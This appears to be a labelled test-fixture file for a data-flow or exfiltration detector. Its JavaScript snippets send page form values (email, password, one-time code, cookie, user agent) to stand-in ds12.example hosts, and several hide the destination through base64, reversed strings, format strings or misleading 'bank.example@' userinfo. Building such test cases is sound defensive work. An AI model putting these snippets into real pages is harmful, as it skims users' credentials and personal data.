//# url-object-moved
// flow: email > uom.ds12.example via fetch
const u = new URL('https://uox.ds12.example/in');
u.hostname = 'uom.ds12.example';
u.searchParams.set('e', document.querySelector('input[type=email]').value);
fetch(u);

//# table-of-regions
// flow: phone > eu.tor.ds12.example via fetch
// no destination: us.tor.ds12.example
const HOSTS = { eu: 'https://eu.tor.ds12.example', us: 'https://us.tor.ds12.example' };
const region = 'eu';
fetch(`${HOSTS[region]}/lead`, { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# address-in-base64
// flow: identifier > b64.ds12.example via beacon
navigator.sendBeacon(atob('aHR0cHM6Ly9iNjQuZHMxMi5leGFtcGxlL2M='), document.cookie);

//# host-joined-backwards
// flow: device > hjb.ds12.example via image
new Image().src = 'https://' + ['example', 'ds12', 'hjb'].reverse().join('.') + '/p?ua=' + encodeURIComponent(navigator.userAgent);

//# protocol-of-the-page
// flow: search > pop.ds12.example via fetch
fetch(document.location.protocol + '//pop.ds12.example/s?q=' + document.querySelector('input[type=search]').value);

//# near-only-the-path-of-it
// flow: search > self via fetch
// why: only the path of the foreign address is taken
const full = new URL('https://otp.ds12.example/api/s');
fetch(full.pathname + '?q=' + encodeURIComponent(document.querySelector('input[type=search]').value));

//# relative-to-the-page
// flow: message > self via fetch
fetch(new URL('/api/messages', location.href), { method: 'POST', body: document.querySelector('textarea[name=message]').value });

//# one-of-two-by-lot
// flow: device > a.oot.ds12.example via beacon
// flow: device > b.oot.ds12.example via beacon
const hosts = ['a.oot.ds12.example', 'b.oot.ds12.example'];
const host = hosts[Math.floor(Math.random() * hosts.length)];
navigator.sendBeacon('https://' + host + '/d', navigator.userAgent);

//# anchor-takes-it-apart
// flow: username > ata.ds12.example via fetch
var a = document.createElement('a');
a.href = 'https://ata.ds12.example/some/where';
fetch('https://' + a.hostname + '/u', { method: 'POST', body: document.querySelector('input[name=username]').value });

//# settings-in-json
// flow: otp > sij.ds12.example via fetch
const settings = JSON.parse('{"api":{"base":"https://sij.ds12.example","v":2}}');
fetch(settings.api.base + '/v' + settings.api.v + '/otp', { method: 'POST', body: document.querySelector('input[autocomplete=one-time-code]').value });

//# printed-by-format
// flow: password > pbf.ds12.example via fetch
function fmt(s) {
  var args = Array.prototype.slice.call(arguments, 1), i = 0;
  return s.replace(/%s/g, function () { return args[i++]; });
}
fetch(fmt('https://%s/%s', 'pbf.ds12.example', 'login'), { method: 'POST', body: document.querySelector('input[type=password]').value });

//# host-set-twice
// flow: email > new.hst.ds12.example via fetch
const conf = { host: 'old.hst.ds12.example' };
conf.host = 'new.hst.ds12.example';
fetch(`https://${conf.host}/m`, { method: 'POST', body: document.querySelector('input[type=email]').value });

//# near-credentials-before-the-host
// flow: email > real.cbh.ds12.example via navigation
// why: what stands before the @ is no host
location.href = 'https://www.bank.example@real.cbh.ds12.example/in?e=' + encodeURIComponent(document.querySelector('input[type=email]').value);

//# near-parameters-of-another-address
// flow: device > mine.poa.ds12.example via fetch
// why: the email is put into the address that is only shown
const shown = new URL('https://help.poa.ds12.example/');
const sent = new URL('https://mine.poa.ds12.example/');
shown.searchParams.set('e', document.querySelector('input[type=email]').value);
sent.searchParams.set('p', navigator.platform);
document.querySelector('#help').textContent = shown.href;
fetch(sent);
